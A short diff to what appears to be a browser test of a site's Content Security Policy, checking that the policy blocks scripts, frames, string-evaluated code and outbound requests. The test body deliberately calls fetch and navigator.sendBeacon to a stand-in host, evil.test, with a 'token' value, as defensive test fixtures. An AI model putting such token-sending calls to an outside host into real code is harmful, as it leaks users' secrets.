@@ -53,14 +53,21 @@ for (const path of ['/', '/login', '/carrito'])
       document.querySelector<HTMLFormElement>('#form')?.submit();
       void fetch('https://evil.test/?token=x').catch(() => {});
       navigator.sendBeacon('https://evil.test/', 'token');
-      // biome-ignore lint/security/noGlobalEval: the policy must refuse it
+      // Text as code: what eval does, by another name.
       setTimeout("ran.push('a text as code')");
     });
     const refused = await page.evaluate(async () => {
       await new Promise((resolve) => setTimeout(resolve, 500));
       return [...new Set(window.refused)];
     });
-    for (const directive of ['script-src-elem', 'script-src-attr', 'frame-src', 'object-src', 'base-uri', 'style-src-elem'])
+    for (const directive of [
+      'script-src-elem',
+      'script-src-attr',
+      'frame-src',
+      'object-src',
+      'base-uri',
+      'style-src-elem',
+    ])
       expect(refused).toContain(directive);
     for (const directive of ['connect-src', 'form-action']) expect(refused).toContain(directive);
     expect(await page.evaluate(() => window.ran)).toEqual([]);
